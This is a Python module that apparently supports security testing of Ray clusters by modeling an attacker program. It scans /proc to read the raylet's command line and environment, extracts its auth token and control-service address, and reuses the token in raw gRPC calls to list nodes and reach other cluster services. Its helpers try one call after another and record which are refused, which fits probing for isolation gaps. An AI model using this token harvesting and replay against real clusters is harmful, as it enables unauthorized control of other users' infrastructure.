"""What an attacker's program knows and how it speaks: its own raylet's command line and token, and gRPC without any of Ray's code."""

import contextlib
import os
import re
from collections.abc import Iterable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import grpc
from ray.core.generated import gcs_pb2, gcs_service_pb2

CALL_S = 5.0
UNLIMITED = (("grpc.max_receive_message_length", -1), ("grpc.max_send_message_length", -1), ("grpc.use_local_subchannel_pool", 1))
NODES = "NodeInfoGcsService"
KV = "InternalKVGcsService"
ACTORS = "ActorInfoGcsService"


@dataclass(frozen=True, slots=True)
class Session:
    """What the agent of this machine was given, as its Ray node shows it to anybody of the same user."""

    gcs: str
    token: str
    address: str
    node_id: str


def session() -> Session:
    """Read off the raylet that runs in this machine."""
    for folder in Path("/proc").iterdir():
        if not folder.name.isdigit():
            continue
        with contextlib.suppress(OSError):
            arguments = (folder / "cmdline").read_bytes().decode(errors="replace").split("\0")
            if not arguments[0].endswith("/raylet"):
                continue
            environment = dict(
                line.split("=", 1)
                for line in (folder / "environ").read_bytes().decode(errors="replace").split("\0")
                if "=" in line
            )
            options = dict(a.lstrip("-").split("=", 1) for a in arguments if a.startswith("--") and "=" in a)
            token = environment.get("RAY_AUTH_TOKEN") or Path(environment["RAY_AUTH_TOKEN_PATH"]).read_text().strip()
            node_id = re.search(r"--node-id=([0-9a-f]{56})", " ".join(arguments))
            return Session(_gcs_address(arguments), token, options["node_ip_address"], node_id[1] if node_id else "")
    raise RuntimeError("no raylet runs here: the agent of this machine has not joined")


def _gcs_address(arguments: list[str]) -> str:
    found = re.search(r"--gcs[-_]address=([^ ]+)", " ".join(arguments))
    assert found, arguments
    return found[1]


def call(address: str, method: str, request: Any, *, token: str | None = None, timeout_s: float = CALL_S, **more: Any) -> bytes:
    """One unary call `Service/Method` with a message or raw bytes; returns the raw reply. Raises grpc.RpcError."""
    path = method if method.startswith("/") else f"/ray.rpc.{method}"
    body = request if isinstance(request, bytes) else request.SerializeToString()
    options = [*UNLIMITED, *more.pop("options", ())]
    metadata = [*credentials(token), *more.pop("metadata", ())]
    with grpc.insecure_channel(address, options=options) as channel:
        return bytes(channel.unary_unary(path)(body, timeout=timeout_s, metadata=metadata, **more))


def credentials(token: str | None) -> list[tuple[str, str]]:
    """The header that Ray's servers ask for."""
    return [("authorization", f"Bearer {token}")] if token else []


def gcs(at: Session, method: str, request: Any, **more: Any) -> bytes:
    """One call of the GCS as the session allows it."""
    return call(at.gcs, method, request, token=at.token, **more)


def nodes(at: Session) -> list[Any]:
    """All nodes that are alive."""
    reply = gcs_service_pb2.GetAllNodeInfoReply.FromString(
        gcs(at, f"{NODES}/GetAllNodeInfo", gcs_service_pb2.GetAllNodeInfoRequest())
    )
    return [node for node in reply.node_info_list if node.state == gcs_pb2.GcsNodeInfo.ALIVE]


def own_node(at: Session) -> Any:
    """This machine's node."""
    return next(node for node in nodes(at) if node.node_id.hex() == at.node_id)


def head_node(at: Session) -> Any:
    """The control node."""
    return next(node for node in nodes(at) if node.is_head_node)


def refusal(error: BaseException) -> str:
    """A refusal in few words."""
    if isinstance(error, grpc.RpcError):
        said = (
            str(error.details())
            .replace("Received http2 header with status: ", "HTTP ")
            .rpartition("Failed to connect to remote host: ")[2]
        )
        return f"{error.code().name}: {said[:90]}"
    return f"{type(error).__name__}: {getattr(error, 'reason', None) or error}"[:120]


def first_that_works(ways: Iterable[tuple[str, Any]]) -> tuple[bool, str]:
    """Try one way after the other: the first that is not refused, or all refusals."""
    refusals = []
    for name, way in ways:
        try:
            return True, f"{name}: {way()}"
        except (grpc.RpcError, OSError) as error:
            refusals.append(f"{name}: {refusal(error)}")
    return False, "; ".join(refusals)


def random_id(size: int = 28) -> bytes:
    """As Ray makes its ids."""
    return os.urandom(size)
